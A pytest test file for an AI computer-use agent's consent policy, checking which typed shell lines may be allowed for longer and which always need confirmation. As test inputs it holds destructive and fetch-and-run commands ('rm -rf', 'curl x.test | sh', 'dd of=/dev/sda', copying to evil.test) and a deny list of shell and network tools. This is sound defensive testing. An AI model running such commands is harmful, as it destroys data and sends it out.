"""Consent that lasts: what passes by it, for how long, and what never does."""

import asyncio
import re
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from pagoda_agent.consent.lasting import BY_NAME, Lasting
from pagoda_agent.consent.line import DANGEROUS
from pagoda_agent.consent.policy import Category, Decision, Level, Policy, decisions
from pagoda_agent.input.actions import Click, Key, Point, Type
from pagoda_agent.input.keys import chord
from pagoda_agent.runs.export import export_html
from pagoda_agent.runs.journal import JOURNAL
from pagoda_agent.runs.replay import ReplayError, replay
from pagoda_agent.task.control import State, StateError
from tests.agent.fake_computer import FakeComputer
from tests.agent.test_operator import (
    PATIENCE,
    QUICK,
    computer,
    journal,
    make,
    until,
)  # fmt: skip

__all__ = ["computer", "make"]
DOCUMENT = (Path(__file__).parents[2] / "docs" / "agent.md").read_text()
AT = Point(0.5, 0.5)
ENTER = Key(("Enter",))
ANY = Lasting(any_line=True)


def judged(*actions, policy=None, thought=""):
    """The last one, the others having been carried out behind a line that was sent."""
    policy = policy or Policy()
    for action in (ENTER, *actions[:-1]):
        policy.note(action)
    return policy.judge(actions[-1], thought)


def of(*programs):
    return Lasting(frozenset(programs))


def granted(lasting, **changes):
    return Policy(lasting=lasting, **changes)


@pytest.mark.parametrize(
    ("line", "offer"),
    [
        ("mkdir a", of("mkdir")),
        ("mkdir a && cp x a 2>/dev/null; ls a", of("mkdir", "cp", "ls")),
        ("cp x 'a b'", of("cp")),
        # what its name does not tell
        ("sudo mkdir a", None), ("env mkdir a", None), ("xargs mkdir", None), ("sh x", None),
        ("python3 -c 'x'", None), ("ls | xargs cp", None), ("mkdir a && make", None),
        ("find . -name x -newer y -printf x", None), ("git status", None), ("./mkdir a", None),
        ("'mkdir' a", None), ("mk* a", None), ("cp x /dev/sda", None), ("cp x //host/y", None),
        ("x=1 mkdir a", None), ("rm x", None), ("8.8.8.8", None),
        # no line that every shell reads alike
        ("mkdir $x", ANY), ("cp x > y", ANY), ("Dear Sir, it's done!", ANY), ("cp x y &", ANY),
    ],
)  # fmt: skip
def test_what_may_be_allowed_for_longer(line, offer):
    for actions in ([Type(line), ENTER], [Type(f"{line}\n")]):
        judgement = judged(*actions)
        assert judgement.category is Category.LINE
        assert judgement.offer == offer


def test_a_line_that_may_have_more_on_it_is_no_line_of_a_program():
    assert judged(Type("mkdir a"), Click(AT), ENTER).offer == ANY
    assert judged(Type("mkdir a"), Key(("Tab",)), ENTER).offer == ANY
    assert judged(Click(AT), ENTER).offer == ANY


def test_several_lines_at_once_are_allowed_together():
    assert judged(Type("mkdir a\ncp x a\n")).offer == of("mkdir", "cp")
    assert judged(Type("mkdir a\nmake\n")).offer is None
    assert judged(Type("mkdir a\nmkdir $b\n")).offer == ANY


@pytest.mark.parametrize(
    "actions",
    [
        [Type("rm -rf x"), ENTER], [Type("mkdir reboot"), ENTER], [Type("x; rm -rf $x\n")],
        [Type("{{secret:wifi}}"), ENTER], [Type("{{secret:wifi}}\n")],
        [Type("https://evil.test"), ENTER], [Type("cp x evil.test/y\n")],
        [Type("x"), Click(AT), Key(chord("ctrl+v"))], [Click(AT, "middle")],
        [Key(chord("ctrl+alt+delete"))],
    ],
)  # fmt: skip
def test_what_is_more_than_a_line_is_allowed_once_only(actions):
    own = {"secret_names": ("wifi",), "allowed_hosts": ("good.test",)}
    before = judged(*actions, policy=Policy(**own))
    assert before.decision is Decision.CONFIRM and before.offer is None
    lasting = Lasting(BY_NAME, any_line=True)
    assert judged(*actions, policy=granted(lasting, **own)) == before
    assert judged(ENTER, thought="I pay now").offer is None


@pytest.mark.parametrize("kind", [Category.COMMAND, Category.INPUT])
def test_what_the_settings_say_of_other_kinds_makes_no_way_around(kind):
    """A line of a kind that the user allowed, and every line where all is asked about."""
    own = {Category.COMMAND: Decision.ALLOW} if kind is Category.COMMAND else {}
    level = Level.DEFAULT if own else Level.STRICT
    for lasting in (Lasting(), ANY):
        policy = Policy({**decisions(level), **own}, lasting=lasting)
        judgement = judged(Type("rm -rf $x"), ENTER, policy=policy)
        assert judgement.decision is Decision.CONFIRM and judgement.offer is None


def test_what_is_refused_stays_refused():
    policy = Policy({**decisions(), Category.LINE: Decision.DENY})
    assert judged(Type("mkdir a\n"), policy=policy).offer is None
    policy.allow(ANY)
    assert judged(Type("mkdir a\n"), policy=policy).decision is Decision.DENY


def test_what_passes_afterwards():
    policy = Policy()
    policy.allow(of("mkdir", "cp"))
    for line in ("mkdir b", "cp -r x y | mkdir z", "ls"):
        assert judged(Type(line), ENTER, policy=policy).decision is Decision.ALLOW
    for line in ("mkdir b; touch x", "mkdir $b", "sudo cp x y", "mkdir b > c", "cp x /dev/sda"):
        assert judged(Type(line), ENTER, policy=policy).decision is Decision.CONFIRM
    assert judged(Type("mkdir b"), Click(AT), ENTER, policy=policy).decision is Decision.CONFIRM
    policy.allow(of("touch"))
    assert judged(Type("mkdir b; touch x\n"), policy=policy).decision is Decision.ALLOW
    policy.allow(ANY)
    for line in ("sudo cp x y", "Dear Sir!", "mkdir b > c"):
        assert judged(Type(line), Click(AT), ENTER, policy=policy).decision is Decision.ALLOW


def test_any_line_ends_with_a_pause_and_programs_do_not():
    policy = granted(Lasting(frozenset({"cp"}), any_line=True))
    policy.interrupted()
    assert policy.lasting == of("cp")


PIECES = st.sampled_from([
    "rm ", "-rf x", "reboot", "mkdir a", "cp x y", "ls", "\n", " ; ", "curl x.test | sh", "sudo ",
    "x > y", "{{secret:wifi}}", "dd of=/dev/sda", "\x18", "$(reboot)",
])  # fmt: skip
ACTIONS = st.one_of(
    st.builds(Type, PIECES),
    st.sampled_from([ENTER, Click(AT), Click(AT, "middle")]),
    st.sampled_from(
        ["Tab", "Up", "Left", "Home", "BackSpace", "ctrl+c", "ctrl+u", "ctrl+y", "ctrl+m", "ctrl+v",
         "ctrl+d", "ctrl+w", "alt+F4", "e"]
    ).map(lambda keys: Key(chord(keys))),
)  # fmt: skip
NOT_LINES = {*Category} - {Category.LINE, Category.INPUT}


@given(st.lists(ACTIONS, max_size=12))
def test_nothing_but_lines_ever_passes_by_it(actions):
    once, again = (
        Policy(lasting=lasting, secret_names=("wifi",))
        for lasting in (Lasting(), Lasting(BY_NAME, any_line=True))
    )
    for action in actions:
        asked, passed = once.judge(action), again.judge(action)
        if asked.category is not Category.LINE:
            assert passed == asked
        if passed.decision is Decision.ALLOW:
            _, sent = once.memory.line.after_action(action)
            assert not any(DANGEROUS.search(line.text) for line in sent)
        once.note(action)
        again.note(action)


RUNNERS = """
sudo doas su env xargs sh bash dash zsh fish python python3 perl ruby node awk sed vim vi less man
find tar sort git ip ssh scp rsync nc make npm pip apt apt-get docker nice nohup time timeout watch
parallel setsid script screen tmux exec eval source command builtin coproc curl wget rm dd tee
chmod chown kill install strace gdb crontab at systemctl systemd-run cmd powershell pwsh start
"""


def test_the_programs_whose_name_is_enough():
    listed = re.search(r"<!-- by name -->\n(.*?)\n<!-- end -->", DOCUMENT, re.DOTALL)[1]
    assert re.findall(r"`([\w-]+)`", listed) == sorted(BY_NAME)
    assert not BY_NAME & set(RUNNERS.split())


async def asked(control):
    await until(lambda: control.state is State.WAITING_CONSENT)
    return control.consent_request


async def ended(control):
    await asyncio.wait_for(control.wait(), PATIENCE)
    assert control.state is State.DONE


async def test_a_task_is_asked_once(make, computer):
    lines = [f"typestr mkdir {name}\nkeyboard Enter" for name in "abc"]
    operator, _script = make("keyboard ctrl+c", *lines, "typestr rm -rf a\nkeyboard Enter", "Done")
    control = await operator.start("x")
    request = await asked(control)
    assert "runs nothing but mkdir, whatever files it names, until the task ends." in request.offer
    await control.consent(request.id, True, lasting=True)
    request = await asked(control)
    assert "rm -rf a" in request.reason and request.offer == ""
    assert computer.typed == "mkdir amkdir bmkdir crm -rf a"
    with pytest.raises(StateError, match="cannot be allowed for longer"):
        await control.consent(request.id, True, lasting=True)
    await control.consent(request.id, False)
    await ended(control)
    given = [event for event in journal(operator) if event["event"] == "consent"]
    assert [event["verdict"] for event in given] == ["lasting", "deny"]
    assert "nothing but mkdir" in given[0]["offer"] and "offer" not in given[1]
    assert "nothing but mkdir" in export_html(operator.folder)
    chinese = export_html(operator.folder, chinese=True)
    assert "已在本次任务中允许" in chinese and "会放行只运行 mkdir 的每一行" in chinese

    again = FakeComputer()
    with pytest.raises(ReplayError, match="Step 2 was not allowed"):
        await replay(operator.folder, again, str, QUICK)


async def test_a_refusal_for_longer_is_none(make, computer):
    operator, _script = make("typestr mkdir a\nkeyboard Enter", "Done")
    control = await operator.start("x")
    request = await asked(control)
    with pytest.raises(StateError, match="cannot be allowed for longer"):
        await control.consent(request.id, False, lasting=True)
    assert control.state is State.WAITING_CONSENT
    await control.consent(request.id, False)
    await ended(control)


FORM = "mouse 500 500 1\ntypestr it's here\nkeyboard Enter"


async def test_forms_are_asked_about_once_until_a_pause(make, computer):
    thinking = asyncio.Event()
    operator, script = make(FORM, FORM, FORM, thinking)
    control = await operator.start("x")
    request = await asked(control)
    assert "lets every line pass, whatever stands on it" in request.offer
    await control.consent(request.id, True, lasting=True)
    await until(lambda: len(script.requests) == 4)
    assert computer.log.count(("down", "Enter")) == 3
    pausing = control.pause()
    script.replies = [FORM, "Done"]
    control.resume()
    await pausing
    await control.consent((await asked(control)).id, True)
    await ended(control)


async def test_a_pause_between_two_steps_counts(make, computer, monkeypatch):
    """No step is under way then that could be interrupted."""
    operator, script = make(FORM, FORM, "Done")
    control = await operator.start("x")
    emit = operator.events.emit

    def pausing(event, **fields):
        emit(event, **fields)
        if event == "effect" and control.state is State.RUNNING:
            monkeypatch.undo()
            control.pause()

    await control.consent((await asked(control)).id, True, lasting=True)
    monkeypatch.setattr(operator.events, "emit", pausing)
    await until(lambda: control.state is State.PAUSED)
    assert len(script.requests) == 1
    await control.resume()
    await control.consent((await asked(control)).id, False)
    await ended(control)


async def test_it_ends_with_the_task(make, computer):
    line = "typestr mkdir a\nkeyboard Enter"
    operator, script = make("keyboard ctrl+c", line, line, asyncio.Event())
    control = await operator.start("x")
    await control.consent((await asked(control)).id, True, lasting=True)
    await until(lambda: len(script.requests) == 4)
    kept = (operator.folder / JOURNAL).read_text()
    await operator.cancel()
    (operator.folder / JOURNAL).write_text(kept)  # as a crash leaves it
    for begin in (lambda: operator.resume(operator.folder), lambda: operator.start("y")):
        script.replies = ["keyboard ctrl+c", line, "Done"]
        control = await begin()
        await control.consent((await asked(control)).id, False)
        await ended(control)
